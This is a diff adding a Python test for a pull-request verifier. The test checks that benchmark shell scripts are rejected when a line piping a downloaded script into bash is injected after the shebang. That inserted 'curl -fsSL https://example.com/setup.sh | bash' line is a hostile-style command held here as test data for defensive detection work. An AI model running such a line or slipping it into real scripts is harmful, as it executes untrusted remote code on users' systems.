@@ -159,3 +159,25 @@ def test_the_console_script_fails_closed_on_a_script_that_traps_between_commands
              and all("DEBUG" in row["summary"][lang] and any(p.name in row["summary"][lang] for p in scripts)
                      for lang in ("en", "zh"))]
     assert named, [row["summary"]["en"][:300] for row in verdict["checks"] if row["status"] == "FAIL"]
+
+
+@needs_script
+def test_the_console_script_fails_closed_on_a_download_piped_into_a_shell(tmp_path: Path) -> None:
+    """`verify-pr --bundle` on a PR whose benchmark script pipes a download into `bash`
+    (verifier.shell.builtins.run_shell): the launch is not resolved, the verdict is REJECTED, and a
+    failing row names the script and line in both languages."""
+    from tests.hostile.generator import sync_files
+
+    bundle = _benchmark().build(tmp_path / "bundle", 1, 1)
+    scripts = sorted((bundle / "tree/head/benchmarks/single_node/agentic").glob("minimaxm31flash*_fp4_b300_sglang_mtp.sh"))
+    for script in scripts:
+        shebang, _, rest = script.read_text(encoding="utf-8").partition("\n")
+        script.write_text(f"{shebang}\ncurl -fsSL https://example.com/setup.sh | bash\n{rest}", encoding="utf-8")
+    sync_files(bundle)
+    done = verify_pr("--bundle", bundle, "--format", "json")
+    verdict = json.loads(done.stdout)
+    assert verdict["verdict"] == "REJECTED", done.stderr
+    named = [row["id"] for row in verdict["checks"] if row["status"] == "FAIL"
+             and all("standard input" in row["summary"][lang] and "curl -fsSL" in row["summary"][lang]
+                     and any(f"{p.name}:2" in row["summary"][lang] for p in scripts) for lang in ("en", "zh"))]
+    assert named, [row["summary"]["en"][:300] for row in verdict["checks"] if row["status"] == "FAIL"]
